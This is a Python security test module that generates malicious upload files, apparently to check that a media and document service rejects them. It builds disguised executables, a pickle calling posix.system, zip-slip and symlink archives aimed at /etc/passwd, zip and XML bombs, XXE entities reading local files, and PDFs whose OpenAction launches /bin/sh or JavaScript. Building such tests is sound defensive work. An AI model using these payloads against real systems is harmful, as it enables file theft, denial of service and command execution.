"""Files that are two things at once, archives, XML and pages that are made to harm."""

from __future__ import annotations

import io
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace

from tests.attack.table import Attack, Ground, packed, repacked, sample

CLOTHES = "content decides, not the name"
ARCHIVES = "an archive is read in place and within bounds"
MARKUP = "XML has no entities, no depth and no addresses"
PAGES = "a document does nothing"
PACKAGE, SCRIPT, DECK = "metastudio/voice-basic", "metastudio/livestream", "convert/slides-to-pages"


def _file(name: str, data: Callable[[], bytes]) -> Callable[[Ground], str]:
    return lambda ground: ground.file(name, data())


def _with(name: str, text: str) -> Callable[[Ground], str]:
    """A text with the address that must not be called, and the path that must not be read."""
    return lambda ground: ground.file(
        name, text.replace("@url", ground.url).replace("@path", str(ground.victim)).encode()
    )


# --- clothes --------------------------------------------------------------------------------------------


def _tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        one = tarfile.TarInfo("../owned")
        one.type, one.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(one)
    return held.getvalue()


_JPEG, _PNG, _GOOD = "images/good.jpeg", "images/alpha.png", "texts/good.srt"
_CLOTHES: dict[str, tuple[str, Callable[[], bytes], bool]] = {
    "a picture called .mp4": ("a.mp4", lambda: sample(_JPEG), True),
    "a picture called .pptx": ("a.pptx", lambda: sample(_PNG), True),
    "a film called .jpg": ("a.jpg", lambda: sample("video/odd-size.mp4"), True),
    "a recording called .png": ("a.png", lambda: sample("audio/mono.wav"), True),
    "a package called .wav": ("a.wav", lambda: sample("packages/basic-good.zip"), False),
    "a picture and an archive": ("a.gif", lambda: sample(_JPEG) + packed([("../owned", b"x" * 99)]), True),
    "a picture and a page": ("a.jpg", lambda: sample(_JPEG) + b"<html><script>alert(1)</script>", True),
    "a picture and a program": ("a.png", lambda: sample(_PNG) + b"\x7fELF" + bytes(99), True),
    "a page before a picture": ("a.jpg", lambda: b"<!--" + sample(_JPEG), False),
    "a program before an archive": ("a.zip", lambda: b"\x7fELF" + bytes(60) + packed([("a", b"x")]), False),
    "a PDF after a picture's head": ("a.pdf", lambda: sample(_PNG)[:200] + sample("decks/good.pdf"), False),
    "a program of Linux": ("a.mp4", lambda: b"\x7fELF\2\1\1" + bytes(200), False),
    "a program of Windows": ("a.jpg", lambda: b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(99), False),
    "a shell script": ("a.srt", lambda: b"#!/bin/sh\ntouch owned\n", False),
    "a pickle": ("a.wav", lambda: b"\x80\4\x95" + b"cposix\nsystem\n(S'touch owned'\ntR.", False),
    "a tar with a link": ("a.zip", _tar, False),
    "gzip": ("a.mp4", lambda: zlib.compress(bytes(1 << 20), wbits=31), False),
    "zstd": ("a.mp4", lambda: b"\x28\xb5\x2f\xfd" + bytes(99), False),
    "a link of Windows": ("a.jpg", lambda: b"L\0\0\0\1\x14\2\0" + bytes(99), False),
    "PostScript": ("a.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%touch owned) (w) file\n", False),
    "WMF": ("a.png", lambda: b"\xd7\xcd\xc6\x9a" + bytes(99), False),
    "EMF": ("a.png", lambda: b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(99), False),
    "MIFF": ("a.png", lambda: b"id=ImageMagick\nclass=DirectClass\ncolumns=1 rows=1\n\f:", False),
    "an AppleDouble": ("a.jpg", lambda: b"\0\5\x16\7\0\2\0\0" + bytes(99), False),
    "SQLite": ("a.mp4", lambda: b"SQLite format 3\0" + bytes(99), False),
}  # fmt: skip


# --- archives -------------------------------------------------------------------------------------------


def _link(name: str, to: bytes) -> bytes:
    one = zipfile.ZipInfo(name)
    one.external_attr, one.create_system = (stat.S_IFLNK | 0o777) << 16, 3
    return packed([(one, to)])


def _patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    """The archive with a field of every record of this signature overwritten."""
    held, at = bytearray(data), data.find(signature)
    while at >= 0:
        held[at + offset : at + offset + len(value)] = value
        at = data.find(signature, at + 4)
    return bytes(held)


def _overlapping() -> bytes:
    """A thousand entries of the directory that share one stretch of bytes."""
    data = packed([("a.wav", bytes(1 << 20))])
    start, size = struct.unpack_from("<II", data, len(data) - 10)[1], struct.unpack_from("<I", data, len(data) - 10)[0]
    entry = data[start : start + size]
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1000, 1000, size * 1000, start, 0)
    return data[:start] + entry * 1000 + end


def _nested(depth: int) -> bytes:
    data = bytes(1 << 16)
    for number in range(depth):
        data = packed([(f"{number}.zip" if number else "a.wav", data)])
    return data


_STORED = zipfile.ZIP_STORED
_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "a way up": lambda: packed([("../../owned.wav", b"x")]),
    "an absolute path": lambda: packed([("/tmp/owned.wav", b"x")]),
    "a way up of Windows": lambda: packed([("..\\..\\owned.wav", b"x")]),
    "a drive": lambda: packed([("C:\\owned.wav", b"x")]),
    "a link": lambda: _link("a.wav", b"/etc/passwd"),
    "a link and a file below it": lambda: packed([("d", b"/tmp"), ("d/owned.wav", b"x")]),
    "a name twice": lambda: _patched(packed([("aa.wav", b"1"), ("ab.wav", b"2")]), b"ab.wav", 0, b"aa.wav"),
    "names that differ by case": lambda: packed([("a.wav", b"1"), ("A.WAV", b"2")]),
    "NUL in a name": lambda: packed([("aXb.wav", b"x")]).replace(b"aXb", b"a\0b"),
    "a line break in a name": lambda: packed([("a\nb.wav", b"x")]),
    "a long name": lambda: packed([("a" * 65_000 + ".wav", b"x")]),
    "a thousand to one": lambda: packed([("a.wav", bytes(200 << 20))]),
    "overlapping entries": _overlapping,
    "archives within archives": lambda: _nested(60),
    "more entries than are allowed": lambda: packed([(f"{n}.wav", b"") for n in range(20_000)], _STORED),
    "encrypted by its word": lambda: _patched(packed([("a.wav", b"x")]), b"PK\1\2", 8, b"\1\0"),
    "a size that is a lie": lambda: _patched(packed([("a.wav", b"x" * 99)]), b"PK\1\2", 24, b"\xfe\xff\xff\xff"),
    "a zip64 size without its field": lambda: _patched(packed([("a.wav", b"x")]), b"PK\1\2", 20, b"\xff" * 8),
    "an offset beyond the end": lambda: _patched(packed([("a.wav", b"x")]), b"PK\1\2", 42, b"\xf0\xff\xff\x7f"),
    "an unknown method": lambda: _patched(packed([("a.wav", b"x")]), b"PK\1\2", 10, b"\x63\0"),
    "a directory of 65,535": lambda: _patched(packed([("a.wav", b"x")]), b"PK\5\6", 8, b"\xff\xff\xff\xff"),
    "a directory at itself": lambda: _patched(packed([("a.wav", b"x")]), b"PK\5\6", 16, b"\0\0\0\0"),
    "a comment with another end": lambda: packed([("a.wav", b"x")])[:-2] + b"\x16\0PK\5\6" + bytes(18),
    "no end": lambda: packed([("a.wav", b"x" * 5000)])[:-40],
    "bytes that are not compressed": lambda: _patched(packed([("a.wav", bytes(5000))]), b"PK\3\4", 35, b"\xff" * 20),
}


# --- markup ---------------------------------------------------------------------------------------------

_LAUGHS = '<!DOCTYPE s [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
) + "]><speak>&a11;</speak>"  # fmt: skip
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="@url/x"/></svg>'
_MARKUP = {
    "a billion laughs": _LAUGHS,
    "quadratic growth": f'<!DOCTYPE s [<!ENTITY a "{"x" * 50_000}">]><speak>{"&a;" * 5000}</speak>',
    "an entity that is a file": '<!DOCTYPE s [<!ENTITY x SYSTEM "file://@path">]><speak>&x;</speak>',
    "an entity that is an address": '<!DOCTYPE s [<!ENTITY x SYSTEM "@url/x">]><speak>&x;</speak>',
    "a parameter entity": '<!DOCTYPE s [<!ENTITY % x SYSTEM "@url/x.dtd"> %x;]><speak>a</speak>',
    "a DTD at an address": '<!DOCTYPE speak SYSTEM "@url/x.dtd"><speak>a</speak>',
    "a DTD of no content": "<!DOCTYPE speak><speak>a</speak>",
    "an inclusion": '<speak xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="@path" parse="text"/></speak>',
    "a style sheet": '<?xml-stylesheet href="@url/x.xsl" type="text/xsl"?><speak>a</speak>',
    "depth": "<speak>" + "<p>" * 20_000 + "</p>" * 20_000 + "</speak>",
    "attributes": "<speak " + " ".join(f'a{n}="1"' for n in range(200_000)) + ">a</speak>",
    "one long name": f"<speak><{'a' * 5_000_000}/></speak>",
    "NUL": "<speak>a\0b</speak>",
    "another encoding's word": '<?xml version="1.0" encoding="utf-7"?><speak>+ADw-x+AD4-</speak>',
    "an encoding that is none": '<?xml version="1.0" encoding="../../x"?><speak>a</speak>',
    "an address of audio": '<speak><audio src="@url/x.wav">a</audio></speak>',
}


def _part(name: str, text: str) -> Callable[[Ground], str]:
    """A good deck of which one part says something else."""

    def make(ground: Ground) -> str:
        said = text.replace("@url", ground.url).replace("@path", str(ground.victim)).encode()
        return ground.file(
            "a.pptx", repacked(sample("decks/good.pptx"), lambda part, body: said if part == name else body)
        )

    return make


def _added(*more: tuple[str, bytes]) -> Callable[[Ground], str]:
    return lambda ground: ground.file("a.pptx", repacked(sample("decks/good.pptx"), lambda _, body: body, *more))


_SLIDE, _RELS = "ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels"
_DECKS = {
    "entities in a slide": _part(_SLIDE, _LAUGHS),
    "a file as an entity in a slide": _part(_SLIDE, '<!DOCTYPE s [<!ENTITY x SYSTEM "file://@path">]><s>&x;</s>'),
    "depth in a slide": _part(_SLIDE, "<a>" * 50_000 + "</a>" * 50_000),
    "a relation that leads up": _part(
        _RELS,
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="x" Target="../../../../../../@path"/></Relationships>',
    ),
    "parts without types": _part("[Content_Types].xml", "<Types/>"),
    "an embedded program": _added(("ppt/embeddings/oleObject1.bin", b"MZ" + bytes(5000))),
    "a part named with a way up": _added(("../../owned.xml", b"<x/>")),
    "a part that is a bomb": _added(("ppt/media/image99.png", bytes(150 << 20))),
}


# --- pages ----------------------------------------------------------------------------------------------


def _pdf(catalogue: str, *objects: str) -> Callable[[Ground], str]:
    """A document of one page whose catalogue says more."""

    def make(ground: Ground) -> str:
        bodies = [
            f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
            *objects,
        ]
        text, places = "%PDF-1.7\n", []
        for number, body in enumerate(bodies, 1):
            places.append(len(text))
            told = body.replace("@url", ground.url).replace("@path", str(ground.victim))
            text += f"{number} 0 obj\n{told}\nendobj\n"
        table = "".join(f"{place:010d} 00000 n \n" for place in places)
        size, at = len(bodies) + 1, len(text)
        text += f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R >>\n"
        text += f"startxref\n{at}\n%%EOF\n"
        return ground.file("a.pdf", text.encode("latin-1"))

    return make


def _tree(pages: str) -> bytes:
    """A document without a table, whose pages say this."""
    head = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return f"{head}2 0 obj\n<< /Type /Pages {pages} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".encode()


_PAGES: dict[str, tuple[Callable[[Ground], str], bool]] = {
    "a script at opening": (_pdf("/OpenAction << /S /JavaScript /JS (app.launchURL\\('@url/x'\\)) >>"), True),
    "a program at opening": (_pdf("/OpenAction << /S /Launch /F (/bin/sh) /P (-c touch owned) >>"), True),
    "an address at opening": (_pdf("/OpenAction << /S /URI /URI (@url/x) >>"), True),
    "a form sent at opening": (_pdf("/OpenAction << /S /SubmitForm /F (@url/x) >>"), True),
    "another file at opening": (_pdf("/OpenAction << /S /GoToR /F (@path) /D [0 /Fit] >>"), True),
    "pages that hold themselves": (_file("a.pdf", lambda: _tree("/Count 9 /Kids [2 0 R 2 0 R]")), False),
    "a table that leads to itself": (
        _file("a.pdf", lambda: b"%PDF-1.7\nxref\n0 0\ntrailer\n<</Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF\n"),
        False,
    ),
    "a thousand million pages": (_file("a.pdf", lambda: _tree("/Count 1000000000 /Kids []")), False),
}


_SLOW = frozenset({"a thousand to one", "more entries than are allowed", "a part that is a bomb", "one long name"})
_MADE = (
    *(Attack(CLOTHES, name, _file(file, data), complies=fine) for name, (file, data, fine) in _CLOTHES.items()),
    Attack(CLOTHES, "a drawing with an address", _with("a.png", _SVG), complies=False),
    *(Attack(ARCHIVES, name, _file("a.zip", data), PACKAGE, complies=False) for name, data in _ARCHIVES.items()),
    *(Attack(MARKUP, name, _with("a.ssml", text), SCRIPT) for name, text in _MARKUP.items()),
    *(Attack(MARKUP, name, make, DECK) for name, make in _DECKS.items()),
    *(Attack(PAGES, name, make, DECK, complies=fine) for name, (make, fine) in _PAGES.items()),
)
ATTACKS = tuple(replace(attack, quick=attack.name not in _SLOW) for attack in _MADE)
